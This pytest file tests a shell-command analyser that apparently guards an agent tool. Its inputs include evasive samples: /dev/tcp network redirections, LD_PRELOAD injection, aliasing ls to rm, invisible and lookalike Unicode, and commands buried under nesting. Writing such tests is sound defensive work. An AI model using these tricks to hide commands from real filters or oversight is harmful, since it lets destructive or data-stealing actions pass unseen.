"""Which command lines are plain, which are not and why, and which commands are found in them."""

from __future__ import annotations

import pytest

from cowork_jupyter.policy.shell import analyse

PLAIN = {
    "one word": "ls",
    "flags": "ls -la src",
    "a pipe": "cat a.txt | sort | uniq -c",
    "a pipe with errors": "cat a.txt |& head -3",
    "a list": "ls && pwd || echo no",
    "lines": "ls\npwd\n",
    "an empty line": "ls\n\n\npwd",
    "a comment": "ls # what is here",
    "a background job": "sleep 1 &",
    "a group": "{ ls; pwd; }",
    "a subshell": "(ls; pwd)",
    "a negation": "! grep -q x a.txt",
    "if": "if [ -f a.txt ]; then cat a.txt; else echo none; fi",
    "while": "while false; do ls; done",
    "single quotes": "grep 'a $b `c`' f.txt",
    "double quotes": 'grep "a b" f.txt',
    "a dollar at the end": 'grep "foo$" f.txt',
    "an escaped dollar": r'echo "\$HOME"',
    "a line continued after a blank": "ls -l \\\n  src",
    "output to nowhere": "ls nothing 2>/dev/null",
    "errors to output": "ls 2>&1",
    "a closed descriptor": "ls 2>&-",
    "a file as input": "wc -l < a.txt",
    "a quoted here-document": "cat <<'EOF'\n$HOME `ls`\nEOF\n",
    "a here-document that needs no filling in": "cat <<EOF\nhello\nEOF\n",
    "a here-string": "cat <<< 'a b'",
    "words behind a redirection": "echo a > f b",
    "empty words": "echo '' \"\"",
    "a revision": "git show HEAD~1 --stat",
    "a stash": "git stash show stash@{0}",
    "the last exit code": 'ls; echo "exit $?"',
    "a variable that is only said": "echo $HOME",
    "a pattern for names": "ls -l src/*.py",
    "a pattern for a program without a table": "mytool data/*.csv",
    "umlauts in words": "cat größe.txt",
    "a strict shell": "set -euo pipefail\nls",
    "another folder": "cd src && ls",
    "a hash inside a word": "echo a#b",
    "nothing": "",
    "only a comment": "# nothing",
}

NOT_PLAIN = {
    "command substitution": "echo $(ls)",
    "backticks": "echo `ls`",
    "substitution in double quotes": 'echo "a $(ls) b"',
    "process substitution in": "diff <(ls a) <(ls b)",
    "process substitution out": "ls | tee >(cat)",
    "here-document with a variable": "cat <<EOF\n$HOME\nEOF",
    "here-document with a substitution": "cat <<EOF\n$(ls)\nEOF",
    "here-document with backticks": "cat <<EOF\n`ls`\nEOF",
    "here-document without an end": "cat <<EOF\nhello",
    "here-string with a variable": 'cat <<< "$HOME"',
    "assignment before a command": "LD_PRELOAD=./x.so ls",
    "assignment to an element": "a[0]=1 ls",
    "assignment that adds": "PATH+=:x ls",
    "an assignment alone": "PATH=/tmp/x",
    "an assignment, then a command": "PATH=/tmp/x; ls",
    "export": "export PATH=/tmp/x",
    "declare": "declare -x A=1",
    "readonly": "readonly A=1",
    "unset": "unset PATH",
    "eval": "eval ls",
    "source": "source setup.sh",
    "dot": ". setup.sh",
    "alias": "alias ls=rm",
    "unalias": "unalias ls",
    "trap": "trap 'rm x' EXIT",
    "coproc": "coproc ls",
    "exec": "exec ls",
    "enable": "enable -f x.so y",
    "shopt": "shopt -s expand_aliases",
    "set of the words": "set -- a b",
    "set without globs": "set -f",
    "read": "read PATH",
    "mapfile": "mapfile -t a",
    "printf into a variable": "printf -v PATH %s x",
    "let": "let x=1",
    "time": "time ls",
    "for": "for x in a b; do echo y; done",
    "for with a counter": "for ((i=0;i<3;i++)); do ls; done",
    "case": "case a in a) ls;; esac",
    "select": "select x in a; do ls; done",
    "a function": "ls() { rm x; }; ls",
    "a function with the word": "function ls { rm x; }",
    "arithmetic": "echo $((1+1))",
    "old arithmetic": "echo $[1+1]",
    "an arithmetic command": "((x=1))",
    "arithmetic that runs": "echo $((a[$(ls)]))",
    "a test that computes": "[[ a -eq 1 ]]",
    "a test of an element": "test -v 'a[$(ls)]'",
    "an expansion": "echo ${HOME}",
    "an expansion that assigns": "echo ${PATH:=x}",
    "an indirect expansion": "echo ${!x}",
    "a prompt expansion": "echo ${x@P}",
    "a variable as a program": "$X a",
    "a quoted variable as a program": '"$X" a',
    "a variable as an argument": "cat $X",
    "a variable in quotes": 'cat "$X"',
    "all arguments": 'cat "$@"',
    "a glob as a program": "/bin/l? a",
    "a star as a program": "* a",
    "a class as a program": "/bin/[l]s",
    "braces as a program": "{ls,-l}",
    "braces in a program's name": "l{s,s} a",
    "braces as an argument": "cat {a,b}.txt",
    "a range of braces": "cat f{1..3}",
    "a glob of contents": "cat src/*.txt",
    "a glob of deleted files": "rm src/*.txt",
    "a glob that may find a flag": "ls *",
    "a glob that begins like a flag": "mytool -*",
    "home": "cat ~/x",
    "the home of somebody": "cat ~bob/x",
    "home behind a sign": "mytool x=~/y",
    "history": "echo !rm",
    "history in quotes": 'echo "!rm"',
    "the last command": "!!",
    "nul": "ls\0rm x",
    "carriage return": "ls\rrm x",
    "escape": "ls \x1b[2K",
    "backspace": "rm x\b\b\b\bls  ",
    "vertical tab": "ls\x0brm",
    "line separator": "ls\u2028rm x",
    "paragraph separator": "ls\u2029rm x",
    "next line": "ls\x85rm x",
    "no-break space": "ls\u00a0-l",
    "ideographic space": "ls\u3000-l",
    "zero width space": "l\u200bs",
    "zero width joiner": "ls a\u200db",
    "soft hyphen": "ls a\u00adb",
    "byte order mark": "\ufeffls",
    "right to left": "ls \u202etxt.exe",
    "an isolate": "ls \u2066a",
    "a lone surrogate": "ls \ud800",
    "a private character": "ls \ue000",
    "a lookalike program": "сat a.txt",
    "a fullwidth program": "ｌｓ",
    "an empty program": "'' a",
    "a blank as a program": "' ' a",
    "an open quote": "echo 'a",
    "an open double quote": 'echo "a',
    "an open substitution": "echo $(ls",
    "an open group": "{ ls",
    "an open subshell": "(ls",
    "a bracket too many": "ls)",
    "if without an end": "if true; then ls",
    "done without a loop": "ls; done",
    "a pipe to nothing": "ls |",
    "a pipe from nothing": "| ls",
    "two semicolons": "ls;;",
    "a redirection to nothing": "ls >",
    "a redirection to a variable": "ls > $X",
    "a redirection to a glob": "ls > a*",
    "a redirection to home": "ls > ~/x",
    "a redirection to the network": "cat a > /dev/tcp/1.2.3.4/80",
    "a redirection from the network": "cat < /dev/tcp/1.2.3.4/80",
    "a descriptor with a name": "ls {fd}> x",
    "an array": "a=(1 2)",
    "two descriptors that run together": "ls > 2> x",
    "a descriptor that is moved": "ls >&1-",
    "a closed descriptor and a word": "ls >& --",
    "a negation behind a pipe": "ls | ! cat",
    "a translated string": 'echo $"hello"',
    "bytes in an ANSI string": r"cat $'\xff'",
    "a string that ends early": r"cat $'a\0b'",
    "a control letter": r"cat $'\ca'",
    "a word broken over lines": "r\\\nm x",
    "an operator broken over lines": "ls &\\\n& rm x",
    "a backslash at the end": "ls \\",
    "a comment that seems to go on": "# a \\\nrm x",
    "too long": "echo " + "a" * 10_000,
    "more commands than are looked at": "ls;" * 501,
    "no folder": "cd; ls",
    "the folder before": "cd - && ls",
    "git in another folder": "cd vendor && git status",
    "deeper than is looked": "eval " * 12 + "rm x",
    "more hidden than is looked at": "sudo " * 100 + "ls",
}


@pytest.mark.parametrize("text", PLAIN.values(), ids=PLAIN.keys())
def test_what_both_readers_understand_is_plain(text: str) -> None:
    assert analyse(text).doubts == ()


@pytest.mark.parametrize("text", NOT_PLAIN.values(), ids=NOT_PLAIN.keys())
def test_expansions_are_not_plain(text: str) -> None:
    analysis = analyse(text)
    assert not analysis.plain
    assert all(doubt.endswith(".") for doubt in analysis.doubts)


FOUND = {
    "in an assignment's shadow": "FOO=1 rm x",
    "behind empty quotes": 'r""m x',
    "behind a backslash": r"\rm x",
    "in single quotes": "'rm' x",
    "in double quotes": '"rm" x',
    "in an ANSI string": "$'rm' x",
    "in an ANSI string of numbers": r"$'\x72\155' x",
    "broken over lines": "r\\\nm x",
    "behind a redirection": "> out rm x",
    "with words behind a redirection": "rm > out x",
    "in a pipe": "ls | rm x",
    "behind and": "ls && rm x",
    "behind or": "ls || rm x",
    "behind a semicolon": "ls; rm x",
    "behind a background job": "ls & rm x",
    "in the next line": "ls\nrm x",
    "behind a comment": "# ls\nrm x",
    "behind a comment that seems to go on": "# ls \\\nrm x",
    "in a group": "{ rm x; }",
    "in a subshell": "(rm x)",
    "in a substitution": "echo $(rm x)",
    "in quotes in a substitution": 'echo "a $(rm x)"',
    "in backticks": "echo `rm x`",
    "in a process substitution": "cat <(rm x)",
    "in an expansion": "echo ${a:-$(rm x)}",
    "in arithmetic": "echo $(( $(rm x) ))",
    "in a here-document": "cat <<EOF\n$(rm x)\nEOF",
    "behind a here-document": "cat <<EOF\na\nEOF\nrm x",
    "in the line of a here-document": "cat <<EOF && rm x\na\nEOF",
    "in a function": "f() { rm x; }",
    "in a loop": "for a in 1; do rm x; done",
    "in a condition": "while rm x; do ls; done",
    "in a case": "case a in a) rm x;; esac",
    "in a test": "[[ -n $(rm x) ]]",
    "in an assignment": "A=$(rm x)",
    "in a declaration": "export A=$(rm x)",
    "in an array": "a=($(rm x))",
    "negated": "! rm x",
    "behind what cannot be read": "rm x; echo 'a",
    "sixty no-ops later": "true; " * 60 + "rm x",
    "six hundred no-ops later": "true && " * 600 + "rm x",
    "sixty brackets deep": "(" * 60 + "rm x" + ")" * 60,
    "in a line that is too long": "echo " + "a" * 20_000 + "; rm x",
}


@pytest.mark.parametrize("text", FOUND.values(), ids=FOUND.keys())
def test_a_command_is_found_wherever_it_hides(text: str) -> None:
    assert ("rm", "x") in [command.words for command in analyse(text).commands]


FILES: dict[str, tuple[str, set[str], set[str]]] = {
    "out": ("ls > f", set(), {"f"}),
    "append": ("ls >> f", set(), {"f"}),
    "both": ("ls &> f", set(), {"f"}),
    "both appended": ("ls &>> f", set(), {"f"}),
    "both, the old way": ("ls >& f", set(), {"f"}),
    "clobber": ("ls >| f", set(), {"f"}),
    "both ways": ("ls <> f", set(), {"f"}),
    "of a group": ("{ ls; pwd; } > f", set(), {"f"}),
    "quoted": ("ls > 'a b'", set(), {"a b"}),
    "in": ("cat < f", {"f"}, set()),
    "a document": ("cat > f <<'E'\nx\nE\n", set(), {"f"}),
    "tee": ("ls | tee -a f g", set(), {"f", "g"}),
    "copy": ("cp a b", {"a"}, {"b", "b/a"}),
    "copy into": ("cp -t d a", {"a"}, {"d", "d/a"}),
    "move": ("mv a b", set(), {"a", "b", "b/a"}),
    "touch": ("touch a b", set(), {"a", "b"}),
    "new folder": ("mkdir -p a/b", set(), {"a/b"}),
    "delete": ("rm -rf a", set(), {"a"}),
    "a name like a flag": ("rm -- -rf", set(), {"-rf"}),
    "sort into": ("sort -o f a", {"a"}, {"f"}),
    "sort into, long": ("sort --output=f a", {"a"}, {"f"}),
    "sed in place": ("sed -i s/a/b/ f", {"f"}, {"f"}),
    "sed in place with a copy": ("sed -i.bak s/a/b/ f", {"f"}, {"f", "f.bak"}),
    "link": ("ln -s a b", {"a"}, {"b", "b/a"}),
    "mode": ("chmod 644 f", set(), {"f"}),
    "grep": ("grep -n x f g", {"f", "g"}, set()),
    "grep with a file of patterns": ("grep -f p g", {"p", "g"}, set()),
    "head": ("head -n 3 f", {"f"}, set()),
    "find": ("find a b -name x", {"a", "b"}, set()),
    "from another folder": ("cd d && cat f", {"d", "f", "d/f"}, set()),
    "from two folders further": ("cd d; cd e; cat f", {"d/e/f", "e/f"}, set()),
    "to an absolute place": ("cd d && cat /f", {"d", "/f"}, set()),
    "unpack": ("tar xzf a.tgz -C d", {"a.tgz"}, {"d"}),
    "download": ("curl -so f https://x.org", set(), {"f"}),
    "behind sudo": ("sudo rm f", set(), {"f"}),
}


@pytest.mark.parametrize(("text", "reads", "writes"), FILES.values(), ids=FILES.keys())
def test_files_are_named(text: str, reads: set[str], writes: set[str]) -> None:
    analysis = analyse(text)
    assert set(analysis.reads) >= reads
    assert set(analysis.writes) == writes


def test_output_to_nowhere_is_no_write() -> None:
    assert analyse("ls > /dev/null 2>&1").writes == ()


def test_words_that_are_not_literal_stand_as_written() -> None:
    (command,) = analyse('mytool "$A" b{1,2}').commands
    assert command.words == ("mytool", '"$A"', "b{1,2}")
    assert len(command.doubts) == 2


def test_a_command_knows_its_own_text() -> None:
    texts = [command.text for command in analyse("cd ö; ls  -l 'ü' > f | wc").commands]
    assert texts == ["cd ö", "ls  -l 'ü' > f", "wc"]


def test_the_doubts_of_a_command_are_doubts_about_the_line() -> None:
    analysis = analyse("ls; cat $X; pwd")
    doubtful = [command for command in analysis.commands if command.doubts]
    assert [command.words[0] for command in doubtful] == ["cat"]
    assert set(doubtful[0].doubts) <= set(analysis.doubts)
